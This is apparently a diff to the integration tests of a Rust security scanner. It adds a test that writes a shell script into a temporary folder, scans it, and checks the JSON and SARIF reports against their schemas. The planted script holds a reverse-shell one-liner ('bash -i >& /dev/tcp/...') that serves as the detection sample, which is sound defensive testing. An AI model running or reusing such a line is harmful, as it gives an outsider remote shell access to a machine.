@@ -1,5 +1,8 @@
 //! The program from outside: what it prints, where, and its exit code. No test opens a connection.
 
+// A helper of a test may unwrap like the test itself.
+#![allow(clippy::unwrap_used)]
+
 use std::path::{Path, PathBuf};
 
 use assert_cmd::Command;
@@ -190,7 +193,7 @@ fn options_win_over_environment_over_file() {
         command
     };
     let (out, _, code) = outcome(&mut with_file());
-    assert_eq!((out.lines().count(), code), (4, 1), "{out}");
+    assert_eq!((out.lines().count(), code), (5, 1), "{out}");
     let (_, _, code) = outcome(with_file().env("BILGEWATCH_FAIL_ON", "malicious"));
     assert_eq!(code, 2);
     let mut all = with_file();
@@ -311,4 +314,37 @@ fn a_reader_that_goes_away_is_no_error() {
     let output = child.wait_with_output().unwrap();
     assert_eq!(String::from_utf8_lossy(&output.stderr), "");
     assert_eq!(output.status.code(), Some(2));
+}
+
+/// What a real scan writes keeps to both schemas; a target that fails does not stop the other.
+#[test]
+fn a_scan_keeps_to_the_schemas() {
+    let folder = tempfile::tempdir().unwrap();
+    let root = folder.path().join("root");
+    std::fs::create_dir(&root).unwrap();
+    let script = "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n";
+    std::fs::write(root.join("start.sh"), script).unwrap();
+    let (json, sarif) = (folder.path().join("a.json"), folder.path().join("a.sarif"));
+    let (out, err, code) = run(&[
+        "scan",
+        "oci-dir:no-such-folder",
+        &format!("dir:{}", root.display()),
+        &format!("-ojson={}", json.display()),
+        &format!("-osarif={}", sarif.display()),
+    ]);
+    assert_eq!((out.as_str(), code), ("", 2), "{err}");
+    assert!(err.contains("no-such-folder"), "{err}");
+    let read = |path: &Path| -> serde_json::Value {
+        serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
+    };
+    let report = read(&json);
+    let schema: serde_json::Value = serde_json::from_str(&run(&["schema"]).0).unwrap();
+    jsonschema::validate(&schema, &report).unwrap();
+    assert_eq!(report["errors"][0]["target"], "oci-dir:no-such-folder");
+    assert_eq!(report["reports"][0]["findings"][0]["where"]["line"], 2);
+    // The published pattern of languages has a stray bracket, which strict readers refuse.
+    let schema =
+        include_str!("schema/sarif-2.1.0.json").replace("-[a-zA-Z]{2}]?$", "-[a-zA-Z]{2}$");
+    let schema: serde_json::Value = serde_json::from_str(&schema).unwrap();
+    jsonschema::validate(&schema, &read(&sarif)).unwrap();
 }
